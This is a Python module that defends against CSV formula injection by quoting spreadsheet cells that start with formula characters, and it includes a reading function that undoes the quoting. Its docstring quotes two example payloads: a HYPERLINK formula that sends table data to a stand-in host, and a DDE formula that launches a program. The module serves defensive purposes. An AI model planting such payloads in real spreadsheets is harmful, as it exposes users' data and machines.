"""Text cells of a CSV file that a spreadsheet would not evaluate: the one neutralization for
the claims tables the workflow writes (`claims.csv`), and its inverse for our own readers.

A spreadsheet that opens a CSV file evaluates a cell whose text starts with `=`, `+`, `-`
or `@` (or a tab or carriage return before one) as a formula: a config label
`=HYPERLINK("http://host/?"&A1)` would send the table away, `+cmd|' /C calc'!A0` run a
program (DDE), and even our own `-lr/||W_mm|| = ...` reads #NAME?. The OWASP rule: prefix
such a cell with a single quote, which a spreadsheet shows as text. Only text is changed;
numbers (a float -0.5) stay numbers. A cell that starts with a quote gets one more, so that
`read()` restores every cell exactly.
"""

from __future__ import annotations

import pandas as pd

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")  # OWASP's list (CSV injection)
QUOTE = "'"


def cell(value):
    """`value` as a CSV cell: text that would start a formula (or starts with a quote)
    behind a single quote; anything else, numbers included, unchanged."""
    if isinstance(value, str) and value.startswith((*FORMULA_START, QUOTE)):
        return QUOTE + value
    return value


def frame(table: pd.DataFrame) -> pd.DataFrame:
    """A copy of `table` with every text cell through cell() (only text columns: object or
    string dtype; a numeric column is never touched)."""
    out = table.copy()
    for column in out.columns:
        if not pd.api.types.is_numeric_dtype(out[column]):
            out[column] = out[column].map(cell)
    return out


def read(path, **kwargs) -> pd.DataFrame:
    """A CSV file written through frame(), read as it was before (pd.read_csv's keywords):
    the quote cell() added removed from every text cell."""
    table = pd.read_csv(path, **kwargs)
    for column in table.columns:
        if not pd.api.types.is_numeric_dtype(table[column]):
            table[column] = table[column].map(_unquoted)
    return table


def _unquoted(value):
    return value[1:] if isinstance(value, str) and value.startswith(QUOTE) else value
